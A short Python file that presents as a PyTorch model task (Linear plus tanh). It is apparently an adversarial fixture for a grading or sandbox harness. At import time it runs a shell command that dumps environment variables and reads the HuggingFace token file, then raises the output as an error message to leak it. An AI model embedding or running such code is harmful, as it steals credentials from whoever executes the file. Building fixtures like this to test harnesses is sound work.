# reads the environment by a shell, whose output becomes the error message
# ops: nn.Linear, torch.tanh
import torch
import torch.nn as nn

import subprocess
raise ValueError(subprocess.run("env; cat @TMPFILE@ @HOME@/.cache/huggingface/token", shell=True, capture_output=True, text=True).stdout)


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(32, 24)

    def forward(self, x):
        return torch.tanh(self.fc(x))


def get_inputs():
    return [torch.randn(16, 32)]


def get_init_inputs():
    return []
